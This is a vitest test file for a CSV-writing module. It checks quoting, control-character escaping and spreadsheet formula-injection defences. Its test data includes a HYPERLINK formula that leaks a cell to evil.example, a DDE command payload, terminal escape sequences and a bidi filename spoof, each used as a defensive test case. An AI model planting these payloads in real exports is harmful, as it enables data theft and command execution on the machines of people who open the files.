import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, csvRow, type CsvValue } from '../../src/store/csv.js';

/** Parses CSV text with a real RFC 4180 parser (strict: bad quoting throws). */
function readCsv(text: string): string[][] {
  return parse(text, { relax_quotes: false, relax_column_count: false, record_delimiter: '\r\n' }) as string[][];
}

describe('csvRow', () => {
  it('ends a record in CRLF (RFC 4180) and joins plain fields with commas', () => {
    expect(csvRow(['a', 'b c', 1, 2.5, true, false])).toBe('a,b c,1,2.5,true,false\r\n');
    expect(csvRow([])).toBe('\r\n');
  });

  it('quotes commas and quotes, doubling the quotes', () => {
    expect(csvRow(['a,b', 'say "hi"', '"'])).toBe('"a,b","say ""hi""",""""\r\n');
  });

  it('writes null, undefined and non-finite numbers as empty fields', () => {
    expect(csvRow([null, undefined, '', NaN, Infinity, 0])).toBe(',,,,,0\r\n');
  });

  it('neutralises strings that a spreadsheet would run, never numbers', () => {
    expect(csvCell('-5')).toBe("'-5");
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('@SUM(A1:A2)')).toBe("'@SUM(A1:A2)");
    expect(csvCell('  =1+1')).toBe("'  =1+1");
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell("'quoted")).toBe("'quoted");
    expect(csvRow([-5, '-5', 3.25, '3.25'])).toBe("-5,'-5,3.25,3.25\r\n");
  });

  it('escapes control characters so no record spans two lines and no escape sequence reaches a terminal', () => {
    const line = csvRow(['a\nb', 'x\r\ny', '\u001b]0;pwned\u0007', '\u001b[2Jclear', 'tab\there', 'nul\0', '\u009b31m']);
    expect(line.indexOf('\n')).toBe(line.length - 1);
    expect(line.slice(0, -2)).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
  });

  // Each cell goes through a real CSV parser and must come back as exactly the safe value.
  const roundTrips: [string, CsvValue, string][] = [
    ['comma', 'a,b', 'a,b'],
    ['quotes', 'say "hi", then "bye"', 'say "hi", then "bye"'],
    ['lone quote', '"', '"'],
    ['newline', 'line1\nline2', 'line1\\nline2'],
    ['CRLF', 'a\r\nb', 'a\\r\\nb'],
    ['ESC sequence', '\u001b[31mred\u001b[0m', '\\e[31mred\\e[0m'],
    ['OSC title', '\u001b]0;owned\u0007', '\\e]0;owned\\x07'],
    ['C1 CSI', '\u009b2J', '\\x9b2J'],
    ['bidi override', 'abc\u202egpj.exe', 'abc\\u202egpj.exe'],
    ['HYPERLINK formula', '=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'],
    ['DDE', "=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1"],
    ['plus', '+1', "'+1"],
    ['minus expression', '-2+3', "'-2+3"],
    ['at', '@SUM(1,2)', "'@SUM(1,2)"],
    // safeText turns a leading tab or CR into `\t`/`\r` text first: a cell starting with a backslash is no formula
    ['leading tab', '\t=1', '\\t=1'],
    ['leading CR', '\r=1', '\\r=1'],
    ['formula after spaces', ' =1', "' =1"],
    ['string minus five', '-5', "'-5"],
    ['number minus five', -5, '-5'],
    ['number', 1234.5, '1234.5'],
    ['boolean', true, 'true'],
    ['unicode', 'naïve café 日本語 🚀 Ωmega', 'naïve café 日本語 🚀 Ωmega'],
    ['backslash kept', 'C:\\path\\n', 'C:\\path\\n'],
    ['spaces kept', '  padded  ', '  padded  '],
    ['empty string', '', ''],
    ['null', null, ''],
    ['undefined', undefined, ''],
  ];
  it.each(roundTrips)('round-trips %s through csv-parse', (_name, value, expected) => {
    const records = readCsv(csvRow(['before', value, 'after']));
    expect(records).toEqual([['before', expected, 'after']]);
  });

  it('round-trips a whole table with a header through csv-parse', () => {
    const header = ['pid', 'comm', 'cmdline'];
    const rows: CsvValue[][] = [
      [1, 'init', '/sbin/init splash'],
      [42, 'sh', 'sh -c "echo a,b; echo \'c\'"'],
      [-1, '-bash', '=2+3\n@x'],
    ];
    const text = csvRow(header) + rows.map(csvRow).join('');
    expect(readCsv(text)).toEqual([header, ['1', 'init', '/sbin/init splash'], ['42', 'sh', 'sh -c "echo a,b; echo \'c\'"'], ['-1', "'-bash", "'=2+3\\n@x"]]);
    // columns: true maps the header, as pandas or a spreadsheet import would
    const objects = parse(text, { columns: true }) as Record<string, string>[];
    expect(objects.map((o) => o['comm'])).toEqual(['init', 'sh', "'-bash"]);
  });
});
